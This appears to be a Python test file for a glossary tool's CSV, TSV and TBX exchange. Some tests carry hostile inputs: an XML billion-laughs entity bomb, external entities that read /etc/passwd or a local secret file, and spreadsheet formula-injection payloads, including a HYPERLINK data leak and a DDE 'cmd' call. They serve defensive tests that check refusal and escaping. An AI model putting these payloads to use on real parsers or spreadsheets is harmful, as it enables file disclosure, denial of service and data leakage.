"""CSV/TSV and TBX exchange: round trips, the formats other tools take, hostile XML."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bilingual.errors import GlossaryError, UsageError
from bilingual.glossary import Entry, Glossary, check_glossary, load_glossary
from bilingual.glossary.exchange import (
    entries_to_yaml,
    export_glossary,
    import_entries,
    import_file,
)
from tests.conftest import examples

pytestmark = pytest.mark.usefixtures("own_folder")

ROOT = Path(__file__).resolve().parent.parent


def starter() -> Glossary:
    return load_glossary([ROOT / "glossary"])


def comparable(entries) -> list[tuple]:
    return [
        (tuple(e.zh), e.en, e.first, e.note, e.type, e.source, e.verified, e.case_sensitive)
        for e in entries
    ]


def test_csv_is_two_columns_without_header():
    data = export_glossary(starter(), "csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(data)))
    assert all(len(row) == 2 for row in rows)
    assert rows[0] == ["台美經濟繁榮夥伴對話", "EPPD"]
    assert ["華府", "Washington, DC"] in rows  # the comma is quoted
    assert '"Washington, DC"' in data
    assert len(rows) == sum(len(e.zh) for e in starter().entries)


def test_csv_and_tsv_round_trip(tmp_path):
    glossary = starter()
    for fmt in ("csv", "tsv"):
        path = tmp_path / f"deepl.{fmt}"
        path.write_bytes(export_glossary(glossary, fmt))
        entries = import_entries(path)
        # Two columns keep sources and running-text renderings; variants regroup by rendering.
        assert [(e.zh, e.en) for e in entries] == [(e.zh, e.en) for e in glossary.entries]


def test_csv_import_header_bom_and_four_columns(tmp_path):
    path = tmp_path / "g.csv"
    path.write_bytes(
        '\ufeffsource,target\n華府,"Washington, DC"\n\n立法院,Legislative Yuan,zh,en\n'
        "Legislative Yuan,立院,en,zh\n".encode("utf-8")
    )
    entries = import_entries(path)
    assert [(e.zh, e.en) for e in entries] == [
        (["華府"], "Washington, DC"),
        (["立法院", "立院"], "Legislative Yuan"),
    ]
    assert entries[1].zh_lines == [4, 5]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("華府\n", r"g\.csv:1: expected two columns"),
        ("華府,Washington\n,Nothing\n", r"g\.csv:2: empty source term"),
        (
            "華府,Washington\n華府,Washington DC\n",
            r"g\.csv:2: 華府: rendered 'Washington DC' here but 'Washington' at .*g\.csv:1",
        ),
    ],
)
def test_csv_import_errors_name_the_row(tmp_path, text, message):
    path = tmp_path / "g.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(GlossaryError, match=message):
        import_entries(path)


def test_tbx_round_trip_keeps_everything(tmp_path):
    glossary = starter()
    path = tmp_path / "g.tbx"
    path.write_bytes(export_glossary(glossary, "tbx"))
    assert comparable(import_entries(path)) == comparable(glossary.entries)


def test_translate_toolkit_reads_our_tbx(tmp_path):
    from translate.storage import tbx

    data = export_glossary(starter(), "tbx")
    store = tbx.tbxfile.parsestring(data)
    pairs = {(u.source, u.target) for u in store.units}
    assert ("台美經濟繁榮夥伴對話", "EPPD") in pairs
    assert ("華府", "Washington, DC") in pairs


def test_tbx_v3_and_foreign_martif(tmp_path):
    v3 = tmp_path / "v3.tbx"
    v3.write_text(
        """<?xml version="1.0" encoding="UTF-8"?>
<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
 <text><body>
  <conceptEntry id="c1">
   <langSec xml:lang="zh-TW"><termSec><term>總統府</term></termSec></langSec>
   <langSec xml:lang="en-US">
     <termSec><term>Office of the President</term></termSec>
     <termSec><term>Presidential Office</term>
       <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec>
   </langSec>
  </conceptEntry>
  <conceptEntry id="c2">
   <langSec xml:lang="fr"><termSec><term>x</term></termSec></langSec>
  </conceptEntry>
 </body></text>
</tbx>""",
        encoding="utf-8",
    )
    (entry,) = import_entries(v3)
    assert (entry.zh, entry.en, entry.first) == (["總統府"], "Presidential Office", None)
    assert entry.note == "Also: Office of the President"


def test_hostile_tbx_entities_are_not_expanded(tmp_path):
    laughs = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    path = tmp_path / "bomb.tbx"
    path.write_text(
        f"""<?xml version="1.0"?>
<!DOCTYPE martif [ {" ".join(laughs)} <!ENTITY ext SYSTEM "file:///etc/passwd"> ]>
<martif type="TBX-Basic"><text><body>
<termEntry><langSet xml:lang="zh"><tig><term>華府&lol9;&ext;</term></tig></langSet>
<langSet xml:lang="en"><tig><term>Washington&ext;</term></tig></langSet></termEntry>
</body></text></martif>""",
        encoding="utf-8",
    )
    # Refused before the parser sees it, in one line, whatever libxml2 would make of it.
    with pytest.raises(GlossaryError) as caught:
        import_entries(path)
    assert str(caught.value) == f"{path}: has a DOCTYPE (entity declarations are refused)"


def test_external_entities_are_not_read(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET", encoding="utf-8")
    path = tmp_path / "ext.tbx"
    path.write_text(
        f"""<?xml version="1.0"?>
<!DOCTYPE martif [ <!ENTITY ext SYSTEM "file://{secret}"> ]>
<martif type="TBX-Basic"><text><body>
<termEntry><langSet xml:lang="zh"><tig><term>華府&ext;</term></tig></langSet>
<langSet xml:lang="en"><tig><term>Washington&ext;</term></tig></langSet></termEntry>
</body></text></martif>""",
        encoding="utf-8",
    )
    with pytest.raises(GlossaryError, match="has a DOCTYPE") as caught:
        import_entries(path)
    assert "SECRET" not in str(caught.value)


def test_a_tbx_that_only_names_its_dtd_is_imported(tmp_path):
    # As Trados and our own export write it; the DTD is never loaded.
    path = tmp_path / "trados.tbx"
    path.write_text(
        """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX" xml:lang="en"><text><body>
<termEntry><langSet xml:lang="zh-TW"><tig><term>華府</term></tig></langSet>
<langSet xml:lang="en-US"><tig><term>Washington</term></tig></langSet></termEntry>
</body></text></martif>""",
        encoding="utf-8",
    )
    (entry,) = import_entries(path)
    assert (entry.zh, entry.en) == (["華府"], "Washington")
    assert export_glossary(Glossary([entry]), "tbx").count(b"<!DOCTYPE martif SYSTEM") == 1


def test_an_oversized_tbx_is_refused(tmp_path, monkeypatch):
    from bilingual import safexml

    monkeypatch.setattr(safexml, "MAX_XML_BYTES", 2**20)
    path = tmp_path / "huge.tbx"
    path.write_bytes(b"<martif>" + b" " * 2**20 + b"</martif>")
    with pytest.raises(GlossaryError, match=r"huge\.tbx: the XML is larger than 1 MB; refused$"):
        import_entries(path)


def test_malformed_tbx_names_the_line(tmp_path):
    path = tmp_path / "bad.tbx"
    path.write_text("<martif>\n<text>\n<body>\n</martif>\n", encoding="utf-8")
    with pytest.raises(GlossaryError, match=r"bad\.tbx:\d+: not well-formed XML"):
        import_entries(path)


def test_import_writes_yaml_that_check_accepts(tmp_path):
    source = tmp_path / "deepl.csv"
    source.write_bytes(export_glossary(starter(), "csv"))
    result = import_file(source)
    assert result.path == Path("glossary/deepl.yaml")
    assert result.entries == len(starter())
    _, problems = check_glossary([result.path])
    assert problems == []
    text = result.path.read_text(encoding="utf-8")
    assert text.startswith("# Imported from deepl.csv")
    with pytest.raises(UsageError, match="already exists"):
        import_file(source)
    import_file(source, force=True)


def test_import_refuses_conflicts_with_the_glossary_in_force(tmp_path):
    (tmp_path / "glossary").mkdir()
    (tmp_path / "glossary" / "places.yaml").write_text(
        "terms:\n  - zh: 華府\n    en: Washington, DC\n", encoding="utf-8"
    )
    source = tmp_path / "other.csv"
    source.write_text("华府,Washington\n", encoding="utf-8")
    with pytest.raises(
        GlossaryError,
        match=r"other\.csv: 华府: rendered 'Washington' here but 'Washington, DC' at "
        r"glossary/places\.yaml:2 \(as 華府\) \(nothing written\)",
    ):
        import_file(source)
    assert not (tmp_path / "glossary" / "other.yaml").exists()


TEXT = (
    st.text(
        alphabet=st.characters(
            blacklist_categories=("Cs", "Cc"), blacklist_characters="\u2028\u2029\x85"
        ),
        min_size=1,
        max_size=12,
    )
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=examples(60), deadline=None)
@given(
    st.lists(
        st.tuples(TEXT, TEXT, st.one_of(st.none(), TEXT), st.one_of(st.none(), TEXT)),
        min_size=1,
        max_size=5,
        unique_by=lambda t: t[0],
    )
)
def test_yaml_and_tbx_round_trip_any_text(tmp_path_factory, rows):
    folder = tmp_path_factory.mktemp("rt")
    entries = [Entry(zh=[zh], en=en, first=first, note=note) for zh, en, first, note in rows]
    yaml_path = folder / "g.yaml"
    yaml_path.write_text(entries_to_yaml(entries, name="round trip"), encoding="utf-8")
    loaded = load_glossary([yaml_path]).entries
    assert comparable(loaded) == comparable(entries)
    tbx_path = folder / "g.tbx"
    tbx_path.write_bytes(export_glossary(Glossary(entries), "tbx"))
    back = import_entries(tbx_path)
    expected = [(e.zh, e.en, e.first if e.first != e.en else None, e.note) for e in entries]
    assert [(e.zh, e.en, e.first, e.note) for e in back] == expected


# Renderings a spreadsheet would run as formulas (OWASP's CSV injection examples), and a cell
# that already starts with the quote that neutralises them.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"EPPD")',
    "=cmd|' /C calc'!A0",
    "+886-2-2311-3731",
    "-2 percent",
    "@SUM(A1:A9)",
    "'=kept as typed",
    "''+two quotes",
]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_formulas_are_exported_as_text_and_imported_as_they_were(tmp_path, fmt):
    entries = [Entry(zh=[f"術語{n}"], en=en) for n, en in enumerate(FORMULAS)]
    entries.append(Entry(zh=["=行政院"], en="Executive Yuan"))
    data = export_glossary(Glossary(entries), fmt).decode("utf-8")
    cells = [
        c
        for row in csv.reader(io.StringIO(data), delimiter="," if fmt == "csv" else "\t")
        for c in row
    ]
    # what a spreadsheet would run: a cell starting with = + - @ tab or CR, quote or not
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in data
    path = tmp_path / f"glossary.{fmt}"
    path.write_bytes(data.encode("utf-8"))
    back = import_entries(path)
    assert [(e.zh, e.en) for e in back] == [(e.zh, e.en) for e in entries]


@settings(max_examples=examples(60), deadline=None)
@given(
    st.lists(
        st.tuples(
            TEXT,
            st.tuples(st.sampled_from(["", "'", "''", "=", "+", "-", "@", "'-"]), TEXT).map(
                "".join
            ),
        ),
        min_size=1,
        max_size=5,
        unique_by=(lambda t: t[0], lambda t: t[1]),
    ).filter(lambda rows: not rows[0][0].lower().startswith("zh")),  # not a header row
    st.sampled_from(["csv", "tsv"]),
)
def test_csv_and_tsv_round_trip_any_leading_character(tmp_path_factory, rows, fmt):
    entries = [Entry(zh=[zh], en=en) for zh, en in rows]
    path = tmp_path_factory.mktemp("rt") / f"g.{fmt}"
    path.write_bytes(export_glossary(Glossary(entries), fmt))
    assert [(e.zh, e.en) for e in import_entries(path)] == [(e.zh, e.en) for e in entries]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_a_csv_whose_first_cell_opens_with_a_bracket_is_not_taken_for_tbx(tmp_path, fmt):
    entries = [Entry(zh=["<新聞稿>"], en="<Press release>")]
    path = tmp_path / f"g.{fmt}"
    path.write_bytes(export_glossary(Glossary(entries), fmt))
    assert [(e.zh, e.en) for e in import_entries(path)] == [(["<新聞稿>"], "<Press release>")]
